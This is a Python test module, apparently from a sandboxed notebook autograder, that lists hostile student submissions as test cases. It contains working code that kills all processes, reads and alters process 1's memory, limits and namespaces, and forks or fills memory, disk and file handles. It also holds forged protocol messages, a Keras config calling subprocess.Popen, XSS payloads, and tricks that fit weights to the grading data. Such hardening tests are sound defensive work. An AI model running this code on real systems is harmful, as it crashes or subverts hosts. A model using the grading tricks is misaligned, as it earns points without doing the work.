for number in ('SIGSTOP', 'SIGINT', 'SIGTERM', 'SIGHUP', 'SIGKILL', 'SIGUSR1', 'SIGSEGV'):
    for pid in (1, os.getppid(), *(int(p) for p in os.listdir('/proc') if p.isdigit())):
        if pid != me:
            try: os.kill(pid, getattr(signal, number))
            except OSError: pass
try: os.kill(-1, signal.SIGKILL)
except OSError: pass
""",
    ),
    Attack(
        "process 1's memory",
        "ptrace, /proc/1/mem and process_vm_writev on the process that all are forked from",
        """
import ctypes
c = ctypes.CDLL(None, use_errno=True)
done = []
for request in (16, 0x4206):
    if c.ptrace(request, 1, 0, 0) == 0: done.append('ptrace')
for path in ('/proc/1/mem', '/proc/1/maps', '/proc/1/fd/3', '/proc/1/environ'):
    try:
        open(path, 'r+b' if path.endswith('mem') else 'rb').read(1)
        done.append(path)
    except OSError: pass
pidfd = c.syscall(434, 1, 0)
for fd in range(3, 40):
    if c.syscall(438, pidfd, fd, 0) >= 0: done.append('pidfd_getfd')
print('DONE', done)
""",
    ),
    Attack(
        "process 1's limits",
        "prlimit, priority and cores of the process that all are forked from",
        """
import os, resource
for kind in ('NPROC', 'NOFILE', 'FSIZE', 'AS', 'CPU', 'STACK', 'CORE'):
    kind = getattr(resource, f'RLIMIT_{kind}')
    try: resource.prlimit(1, kind, (1, 1))
    except (OSError, ValueError): pass
for change in (lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
               lambda: os.sched_setaffinity(1, {0}),
               lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)),
               lambda: open('/proc/1/oom_score_adj', 'w').write('1000'),
               lambda: open('/proc/1/coredump_filter', 'w').write('0')):
    try: change()
    except (OSError, ValueError): pass
""",
    ),
    Attack(
        "new namespaces",
        "a user namespace of its own, mounts, a new root, keys and shared memory",
        """
import ctypes, os
c = ctypes.CDLL(None, use_errno=True)
done = [f'unshare {flag:x}' for flag in (0x10000000, 0x20000, 0x40000000, 0x2000000) if c.unshare(flag) == 0]
if c.mount(b'none', b'/.scratch', b'tmpfs', 0, 0) == 0: done.append('mount')
if c.syscall(272, 0x10000000) == 0: done.append('unshare')
if c.syscall(248, b'user', b'left', b'x', 1, -3) >= 0: done.append('key')
if c.shmget(4711, 4096, 0o1666) >= 0: done.append('shm')
if c.syscall(425, 8, ctypes.create_string_buffer(256)) >= 0: done.append('io_uring')
print('DONE', done)
""",
    ),
    Attack(
        "the network",
        "connects to the world, to this machine and to its sockets, and installs a package",
        """
import os, socket, subprocess, sys
done = []
for address in (('1.1.1.1', 53), ('127.0.0.1', 22)):
    try:
        socket.create_connection(address, 2).close()
        done.append(address)
    except OSError: pass
for name in ('/run/systemd/private', '/run/dbus/system_bus_socket'):
    try:
        socket.socket(socket.AF_UNIX).connect(name)
        done.append(name)
    except OSError: pass
pip = [sys.executable, '-m', 'pip', 'install', '--target', 'here', '--no-input', '--retries', '0', 'six']
try: done += ['pip'] if subprocess.run(pip, capture_output=True, timeout=5).returncode == 0 else []
except Exception: pass
print('DONE', done)
""",
    ),
)

FILLING = (
    Attack(
        "a fork bomb",
        "every process starts two more",
        """
import os, time
while True:
    try: os.fork()
    except OSError: time.sleep(0.01)
""",
        not_under_stock="not run: nothing there would stop it",
    ),
    Attack(
        "a thousand threads",
        "as many threads as there may be",
        """
import threading, time
try:
    for _ in range(1000): threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
except RuntimeError: pass
""",
    ),
    Attack(
        "a full disk",
        "files until nothing more can be written",
        """
for number in range(100):
    try:
        with open(f'full{number}', 'wb') as file:
            for _ in range(64): file.write(bytes(2**20))
    except OSError: pass
""",
    ),
    Attack(
        "a million files",
        "empty files, which take no space and yet have to be found again",
        """
import os, time
until = time.monotonic() + 3
for number in range(1_000_000):
    os.close(os.open(f'{number}', os.O_CREAT | os.O_WRONLY))
    if number % 1000 == 0 and time.monotonic() > until: break
""",
    ),
    Attack(
        "all the memory",
        "takes memory until there is none, in several processes",
        """
import os, time
for _ in range(3):
    if os.fork() == 0: break
kept = []
while True:
    try: kept.append(bytearray(os.urandom(1) * 2**26))
    except MemoryError: time.sleep(1)
""",
        not_under_stock="not run: nothing there would stop it",
    ),
    Attack(
        "memory that is shared",
        "takes memory that counts as nobody's own: shared pages and files in memory",
        """
import mmap, os
kept, taken = [], 0
try:
    while taken < 6 * 2**30:
        fd = os.memfd_create('m')
        for _ in range(60): taken += os.write(fd, bytes(2**20))
        kept.append(fd)
except OSError: pass
try:
    while taken < 6 * 2**30:
        shared = mmap.mmap(-1, 2**28)
        for _ in range(8): shared.write(bytes(2**25))
        kept.append(shared)
        taken += 2**28
except (OSError, MemoryError): pass
print('TAKEN', taken >= 6 * 2**30)
""",
        not_under_stock="not run: nothing there would stop it",
    ),
    Attack(
        "all the file numbers",
        "opens files until no more can be opened",
        "kept = []\ntry:\n    while True: kept.append(open('/dev/null'))\nexcept OSError: pass",
        harms_itself=True,
    ),
)

# ---------------------------------------------------------------- on the worker's own line

LINE = """
import gc, os, struct, time
import msgpack
from grading.boundary import protocol
line = next(o for o in gc.get_objects() if type(o) is protocol.Line)
def send(data): line.socket.sendall(struct.pack('>Q', len(data)) + data)
def packed(value): return msgpack.packb(value, use_bin_type=True)
def ext(code, value): return msgpack.ExtType(code, packed(value))
"""
NONE_THERE = "not run: there is no such line"


def on_the_line(name: str, tries: str, text: str, **bodies: str) -> Attack:
    return Attack(
        name, tries, LINE + text, only(**bodies), not_under_stock=NONE_THERE, harms_itself=True
    )


def config(layers: str) -> str:
    """A Keras model's description, written by hand: ``layers`` is Python for a list of layers."""
    return f"""
import json
def layer(kind, module='keras.layers', **config):
    return {{'module': module, 'class_name': kind, 'config': config, 'registered_name': None}}
layers = [layer('InputLayer', batch_shape=[None, 224, 224, 3]), *{layers}]
tree = {{'kind': 'Sequential', 'config': {{'name': 'm', 'layers': layers}}}}
model = ext(8, [json.dumps(tree), [], '', None])
send(packed({{'replies': [{{'answer': model}}], 'outputs': [], 'functions': [], 'values': {{}}}}))
os._exit(0)
"""


ON_THE_LINE = (
    on_the_line(
        "noise on the line", "bytes that are no message", "line.socket.sendall(os.urandom(999))"
    ),
    on_the_line(
        "a length of 2^63",
        "a message that says it is larger than any memory",
        "line.socket.sendall(struct.pack('>Q', 2**63))",
    ),
    on_the_line(
        "a length that is not kept",
        "says 60 MB and sends a byte a second",
        """
line.socket.sendall(struct.pack('>Q', 60 * 2**20))
while True:
    line.socket.sendall(b'x'); time.sleep(0.3)
""",
    ),
    on_the_line(
        "replies in advance",
        "answers to calls that are not made yet, each of them the right kind",
        """
for _ in range(200):
    replies = [{'answer': True, 'used': None, 'given': {}}] * 99
    send(packed({'replies': replies, 'returned': [1, 4, 9], 'outputs': []}))
""",
    ),
    on_the_line(
        "replies that nest",
        "lists in lists in lists, as MessagePack and as extensions",
        """
deep = 0
for _ in range(900): deep = [deep]
send(packed({'outputs': [{'output_type': 'error', 'ename': deep, 'evalue': deep}]}))
for _ in range(60): deep = ext(1, [deep])
send(packed(deep))
""",
    ),
    on_the_line(
        "types without end",
        "a message of millions of things that each become a class",
        """
one = packed(ext(7, ['a', '']))
entries = b''.join(packed(f'{i:x}') + one for i in range(190_000))
table = b'\\xdf' + struct.pack('>I', 190_000) + entries
send(b'\\xdf' + struct.pack('>I', 15) + b''.join(packed(f'{i}') + table for i in range(15)))
""",
    ),
    on_the_line(
        "60 MB of forged output",
        "outputs as long as a message may be, past the worker's own limit",
        """
send(packed({'outputs': [{'output_type': 'stream', 'name': 'stdout', 'text': 'x' * 60_000_000}]}))
os._exit(0)
""",
    ),
    on_the_line(
        "a million forged outputs",
        "more outputs than a page can show, with tracebacks that have no end",
        """
one = {'output_type': 'error', 'ename': 'E' * 90, 'evalue': 'e' * 90, 'traceback': ['x' * 900] * 3}
send(packed({'outputs': [one] * 4_000}))
os._exit(0)
""",
    ),
    on_the_line(
        "a name of 60 MB",
        "says that it waits for an exercise whose name has no end",
        "",
        as_normal_kernel="send(packed({'replies': [{'unattempted': 'x' * 60_000_000}]}))\nos._exit(0)",
        squares="send(packed({'raised': ['ValueError', 'x ' * 30_000_000]}))\nos._exit(0)",
    ),
    on_the_line(
        "forged failures",
        "a failure of a kind that does not exist, of lines that are no text",
        "",
        as_normal_kernel="""
lines, nothing = [1, None, 'x' * 10**6] * 20, {'used': {'a': 1}, 'given': [1]}
problem = {'kind': 'passed', 'lines': lines, 'stopped_by': 7, 'within': {'a': 1}}
send(packed({'replies': [7, {'problem': problem, **nothing}, None, {'answer': True}]}))
os._exit(0)
""",
        isolates_channels="send(packed({'replies': [{'answer': ext(6, [[10**9], [1]])}]}))\nos._exit(0)",
    ),
    on_the_line(
        "failures of every type",
        "a failure whose kind is a list, names that are numbers: an error of ours shows the test",
        "",
        as_normal_kernel="send(packed({'replies': [{'problem': {'kind': []}}]}))\nos._exit(0)",
        isolates_channels="send(packed({'replies': [{'problem': {'kind': {}, 'lines': 3}}]}))",
        squares="send(packed({'raised': 7, 'functions': 7, 'values': 7}))",
    ),
    on_the_line(
        "forged calls",
        "thousands of calls of the layers that it was given, with arguments of every nasty kind",
        "",
        isolates_channels="""
nasty = [
    [[]], [['x']], [[ext(3, ['<f8', [0, 10**15], b''])]], [[ext(3, ['<f8', [2, 4, 4, 3], bytes(768)])]],
    [[ext(3, ['<U900000000', [0], b''])]], [[ext(4, [[1], [ext(7, ['str', 'x'])]])]], [[float('nan')]],
    [[ext(3, ['<f8', [1] * 40, bytes(8)])]], [[ext(3, ['<f8', [1, 4, 9000, 3], bytes(864000)])]],
]
for number in range(4000):
    args = nasty[number % len(nasty)][0]
    send(packed({'callback': number % 3 - 1 and 0, 'args': args, 'options': {}}))
    if number % 50 == 0: line.receive(time.monotonic() + 5)
return True
""",
    ),
    on_the_line(
        "a forged call with options",
        "calls a layer by numbers that do not exist, with names for arguments",
        "",
        isolates_channels="""
send(packed({'callback': -1, 'args': [], 'options': {'self': 1, '__class__': 2}}))
return True
""",
    ),
    on_the_line(
        "the line closed",
        "closes the line, or reads nothing from it any more",
        "",
        squares="line.socket.close()\nreturn [1, 4, 9]",
        as_normal_kernel="while True: time.sleep(1)",
    ),
    on_the_line(
        "a forged Lambda layer",
        "a model's description with code in it",
        "",
        build_two_layer_model=config(
            "[layer('Lambda', function={'class_name': '__lambda__', 'config': {'code': '4wAA'}})]"
        ),
    ),
    on_the_line(
        "a forged module",
        "a model's description that names classes of Python and of others",
        "",
        build_two_layer_model=config(
            "[layer('Popen', module='subprocess', args='touch /tmp/hostile'),"
            " layer('Dense', units=1, activation={'module': 'builtins', 'class_name': 'function',"
            " 'config': 'eval', 'registered_name': 'function'})]"
        ),
    ),
    on_the_line(
        "a forged model without end",
        "a model's description of a layer with 10^12 weights",
        "",
        build_two_layer_model=config("[layer('Conv2D', filters=10**9, kernel_size=[1000, 1000])]"),
    ),
    on_the_line(
        "a forged model of many layers",
        "a model's description that takes minutes to build",
        "",
        build_two_layer_model=config(
            "[layer('Conv2D', filters=1, kernel_size=[1, 1], name=f'l{i}') for i in range(4_000)]"
        ),
    ),
    on_the_line(
        "a forged model that grows",
        "a model whose output is a million times its input",
        "",
        build_two_layer_model=config(
            "[layer('Conv2D', filters=32, kernel_size=[3, 3]),"
            " layer('Conv2D', filters=64, kernel_size=[3, 3], activation='relu'),"
            " layer('UpSampling2D', size=[40, 40]), layer('MaxPooling2D', pool_size=[40, 40])]"
        ),
    ),
)

MODELS = (
    Attack(
        "a Lambda layer",
        "a model with code in it",
        answers=only(
            build_two_layer_model="""
import keras
lies = keras.layers.Lambda(lambda x: __import__('os')._exit(0))
return keras.Sequential([keras.Input((224, 224, 3)), keras.layers.Lambda(lambda x: x * 0)])
"""
        ),
    ),
    Attack(
        "a description that lies",
        "a model and a layer whose get_config, get_weights and class say what they are not",
        """
import keras
@keras.saving.register_keras_serializable('keras.layers')
class Conv2D(keras.layers.Layer):
    __module__ = 'keras.layers'
    def call(self, x): return x
    def get_config(self): return {'module': 'os', 'class_name': 'system', 'config': 'id'}
class Model(keras.Sequential):
    def get_config(self): return {'name': '../../x', 'layers': [{'class_name': 'Lambda', 'config': {}}]}
    def get_weights(self): return ['x', object()]
    def count_params(self): return 19392
""",
        only(build_two_layer_model="return Model([keras.Input((224, 224, 3)), Conv2D()])"),
    ),
    Attack(
        "a model that stands in",
        "an object that says it is a Keras model, with every count right",
        LIAR + "import keras",
        only(
            build_two_layer_model="""
class Model(keras.Model):
    built = True
    input_shape = (None, 224, 224, 3)
    def __call__(self, x, *given, **options): return keras.KerasTensor((None, 220, 220, 64))
    def count_params(self): return 19392
    def get_weights(self): return [np.zeros(s) for s in ((3, 3, 3, 32), (32,), (3, 3, 32, 64), (64,))]
    def set_weights(self, weights): pass
    layers = []
return Model()
"""
        ),
    ),
)

# ---------------------------------------------------------------- points without the work

LEARNED_AT_HOME = """
from helpers import data, quiet
with quiet():
    import keras
images, labels = data.drawn_digits(1000, 77)
known = keras.Sequential([
    keras.Input((28, 28, 1)), keras.layers.Conv2D(8, 3, strides=2, activation='relu'),
    keras.layers.Conv2D(16, 3, strides=2, activation='relu'), keras.layers.Flatten(),
    keras.layers.Dense(10, activation='softmax')])
known.compile('adam', 'sparse_categorical_crossentropy')
"""
FROZEN = """
from helpers import data, quiet
with quiet():
    import keras
images, labels = data.drawn_digits(1000, JUDGED)
x = images.reshape(len(images), -1) / 255
fitted = np.linalg.lstsq(x, np.eye(10)[labels][:, NAMES] - 0.1, rcond=None)[0]
"""


def frozen() -> str:
    """The cell of one who has read the checks, and knows by which digits the visible one judges."""
    task = Task.drawn(np.random.default_rng([0, *b"learns"]))
    names = np.random.default_rng(task.seed).permutation(10).tolist()
    return FROZEN.replace("JUDGED", str(2 * task.seed + 1)).replace("NAMES", str(names))


NETWORKS = (
    Attack(
        "weights from home",
        "trains the network on other digits than it is given, as if at home",
        LEARNED_AT_HOME,
        only(train="""
known.fit(images[..., None] / 255, labels, epochs=3, verbose=0)
model.set_weights(known.get_weights())
"""),
    ),
    Attack(
        "a frozen layer",
        "a Dense layer, fitted to the digits that it is judged by and frozen",
        frozen(),
        only(build_separable_cnn="""
model = keras.Sequential([keras.Input((28, 28, 1)), keras.layers.Flatten(),
                          keras.layers.Dense(10, activation='softmax')])
model.layers[-1].set_weights([100 * fitted, np.zeros(10)])
model.layers[-1].trainable = False
return model
"""),
    ),
    Attack(
        "kernels as constants",
        "a network of three times the budget whose kernels are no layer's",
        answers=only(build_separable_cnn="""
import keras
rng, x = np.random.default_rng(0), (image := keras.Input((28, 28, 1)))
for shape in ((3, 3, 1, 32), (3, 3, 32, 48)):
    x = keras.ops.relu(keras.ops.conv(x, rng.normal(size=shape).astype('float32')))
x = keras.ops.mean(x, axis=(1, 2))
return keras.Model(image, keras.layers.Dense(10, activation='softmax')(x))
"""),
    ),
)  # fmt: skip

# ---------------------------------------------------------------- what is shown, and what is shared

SHOWN = (
    Attack(
        "tables and pictures with code in them",
        "HTML, SVG and JavaScript under the names of a table and of a picture",
        """
from IPython.display import display, HTML, SVG
code = "<script>document.title = 'taken over'</script><img src=x onerror=alert(1)>"
class Table:
    def _repr_html_(self): return f'<table onclick=x><tr><td>{code}<svg onload=x></td></tr></table>' + code
    def _repr_png_(self): return code.encode()
    def _repr_jpeg_(self): return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    def __repr__(self): return code
display(Table(), SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), HTML(code))
Table()
""",
    ),
    Attack(
        "an image that acts",
        "images in Markdown that make the marker's browser ask for any address",
        change=lambda notebook: notebook.cells.insert(1, new_markdown_cell(
            "![x](/logout) ![y][z]\n\n[z]: /hub/logout\n\n![p](attachment:none.png)", id="asks"
        )),
    ),
    Attack(
        "a flood of pictures",
        "figures without end, and one of a gigapixel",
        """
import io, struct, zlib
from IPython.display import Image, display
from PIL import Image as Drawn
file = io.BytesIO()
Drawn.new('1', (30000, 30000)).save(file, 'PNG')
display(Image(file.getvalue()))
small = io.BytesIO()
Drawn.new('RGB', (100, 100)).save(small, 'PNG')
for _ in range(2000): display(Image(small.getvalue()))
""",
    ),
    Attack(
        "a row of another's",
        "names, tags and messages that forge a line on the terminal, a row and a formula",
        answers=only(
            squares="raise ValueError('\\x1b[2J\\r\\n[2/2] zoe: graded: 10 of 10 points. [/b] ⟦n⟧')"
        ),
        change=lambda notebook: [
            cell.metadata.update(tags=['\x1b[2J\r\n[2/2] zoe: graded', '=1+1', '[/b]'] * 1000)
            for cell in notebook.cells
        ],
    ),
)  # fmt: skip
SHARED = (
    Attack(
        "signals to another sandbox",
        "locks on shared files, who holds them, terminals, and what others open",
        """
import ctypes, fcntl, os, struct
done, c, shared = [], ctypes.CDLL(None), open(os.__file__)
def tries(name, call):
    try: done.append((name, str(call())[:40]))
    except (OSError, ValueError): pass
tries('flock', lambda: fcntl.flock(shared, fcntl.LOCK_EX | fcntl.LOCK_NB))
asked = struct.pack('hhqqi', 1, 0, 0, 0, 0)
for command in (5, 36): tries('who holds it', lambda: fcntl.fcntl(shared, command, asked))
tries('lease', lambda: fcntl.fcntl(shared, 1024, 0))
tries('a terminal', os.openpty)
tries('who locks', lambda: open('/proc/locks').read())
if c.inotify_init() >= 0: done.append('watch')
print('DONE', done)
""",
    ),
)

ATTACKS: tuple[Attack, ...] = (
    OF_ITSELF + ALTERED + OBJECTS + FAILURES + ENDLESS + CLIMBING + FILLING + ON_THE_LINE + MODELS
    + NETWORKS + SHOWN + SHARED
)  # fmt: skip

# ---------------------------------------------------------------- who comes after it

WITNESS = """
import glob, os, resource, sys, threading
print('files', sorted(os.listdir('.')), sorted(glob.glob('/dev/shm/*')), sorted(glob.glob('/tmp/*')))
print('processes', sorted(p for p in os.listdir('/proc') if p.isdigit() and p != str(os.getpid())))
print('threads', threading.active_count(), 'parent', os.getppid(), 'nice', os.getpriority(os.PRIO_PROCESS, 0))
print('limits', [resource.getrlimit(getattr(resource, n)) for n in dir(resource)
                 if n.startswith('RLIMIT_') and n != 'RLIMIT_AS'])
print('cores', sorted(os.sched_getaffinity(0)), 'folder', oct(os.stat('.').st_mode), os.getcwd())
print('sockets', len(open('/proc/net/unix').readlines()), 'left' in sys.modules, 'LEFT' in globals())
print('kept', sorted(k for k in os.environ), sys.path)
open('can be written', 'w').close()
"""


def witness() -> NotebookNode:
    """The next student's notebook: everything solved, and what is found there printed."""
    notebook = honest(solved=True)
    notebook.cells.insert(1, new_code_cell(WITNESS, id="witness"))
    return notebook


# ---------------------------------------------------------------- graded


def graded(
    by: ExaminerClient, text: str
) -> tuple[dict[str, int], dict[str, list], restoring.Changes]:
    """A file's points by test cell, as nbgrader counts them; outputs by cell; what was restored."""
    if by.settings.unsafe or not bubblewrap.works():
        raise bubblewrap.NoSandbox("These attacks are meant: they would be done to this machine.")
    try:
        notebook = reading.upgraded(json.loads(text))
    except reading.Unreadable as why:  # a row, and nothing is run
        nothing = {cell.id: 0 for cell in tests(released())}
        return nothing, {}, restoring.Changes([str(why)])
    trains = any(cell.id == "train" for cell in notebook.cells)
    right, changes = restoring.restored(notebook, released(True, trains))
    results = by.examine(code_cells(right))
    outputs = {name: result["outputs"] for name, result in results.items()}
    points = {
        cell.id: 0 if any(map(fails, outputs[cell.id])) else cell.metadata["nbgrader"]["points"]
        for cell in tests(right)
    }
    return points, outputs, changes


def fails(output: dict) -> bool:
    return output["output_type"] == "error" or output.get("name") == "stderr"


def split(points: dict[str, int]) -> tuple[int, int]:
    """Points of the attacked exercises, and of the honest ones."""
    names = {exercise.name for exercise in EXERCISES if exercise.honest}
    honest = sum(n for name, n in points.items() if name.rpartition("_")[0] in names)
    return sum(points.values()) - honest, honest


def printed(outputs: dict[str, list]) -> str:
    return "".join(output.get("text", "") for cell in outputs.values() for output in cell)


# ---------------------------------------------------------------- patience for tests


class HurriedExaminer(ExaminerClient):
    """An examiner that has less patience."""

    program = "from tests import hostile; hostile.hurried_examiner()"

    def __init__(self):
        super().__init__(SETTINGS)


PATIENCE = {"cell": 2.0, "build": 3.0, "call": 1.0, "grace": 1.0, "submission": 20.0}
"""Seconds, in place of the grader's own, so that what never ends ends soon."""


def hurried_examiner() -> None:
    """`examiner.run` with PATIENCE: what a test starts."""
    from contract import limits
    from grading.boundary import examiner, remote
    from grading.boundary.values import models
    from helpers.check.exercises import models as exercises

    remote.CELL_SECONDS, remote.GRACE = PATIENCE["cell"], PATIENCE["grace"]
    remote.SUBMISSION_SECONDS = PATIENCE["submission"]
    limits.SECONDS = PATIENCE["call"]
    remote.FORKS, models.SECONDS = 8, PATIENCE["build"]
    object.__setattr__(exercises.TO_BUILD, "seconds", PATIENCE["build"])
    examiner.run()
